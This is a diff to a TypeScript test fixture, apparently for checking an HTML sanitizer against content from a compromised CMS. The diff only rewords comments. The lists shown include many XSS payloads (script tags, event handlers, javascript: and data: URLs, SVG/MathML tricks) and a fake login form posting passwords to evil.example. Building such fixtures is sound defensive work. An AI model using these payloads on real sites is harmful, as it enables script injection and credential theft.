@@ -1,12 +1,12 @@
 /**
- * What an operator's CMS could send after an attacker got into it. A script that runs sets `window.__xss`, so that a
- * browser test can detect it. A request that leaves goes to evil.example.
+ * Content that an operator's CMS could send after an attacker got into it. A script that runs sets
+ * `window.__xss`, so that a browser test can detect it. A request that leaves goes to evil.example.
  */
 
 const RUN = 'window.__xss=1'
 const DATA_PAGE = 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=='
 
-/** Attacks in HTML that ends by itself. */
+/** Attacks in well-formed HTML. */
 export const hostileHtml: readonly string[] = [
   // scripts
   `<script>${RUN}</script>`,
@@ -72,7 +72,7 @@ export const hostileHtml: readonly string[] = [
   `<svg><image href="x" onerror=${RUN} /></svg>`,
   `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
   `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
-  // forms that ask for passwords
+  // forms that request passwords
   '<form action="https://evil.example/" method=post><input name=password type=password><button>Log in</button></form>',
   `<input autofocus onfocus=${RUN}>`,
   `<button formaction="javascript:${RUN}">x</button>`,
@@ -91,7 +91,7 @@ export const hostileHtml: readonly string[] = [
   '<p dir="rtl" lang="x" onclick=1>\u2066\u2067\u2068x</p>',
 ]
 
-/** Attacks in HTML that swallows what follows. */
+/** Attacks in HTML that swallows the following content. */
 export const swallowingHtml: readonly string[] = [
   '<plaintext>',
   `<!--<img src="--><img src=x onerror=${RUN}>`,
@@ -108,7 +108,6 @@ export const swallowingHtml: readonly string[] = [
   `<p><b><i><a href="javascript:${RUN}"><div><table><a href="javascript:${RUN}">x</table></div></i></b></p>`,
 ]
 
-/** Attacks for text fields. */
 export const hostileText: readonly string[] = [
   `<img src=x onerror=${RUN}>`,
   `</title><script>${RUN}</script>`,
@@ -122,7 +121,6 @@ export const hostileText: readonly string[] = [
   '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
 ]
 
-/** Attacks for URLs of links. */
 export const hostileUrls: readonly string[] = [
   `javascript:${RUN}`,
   DATA_PAGE,
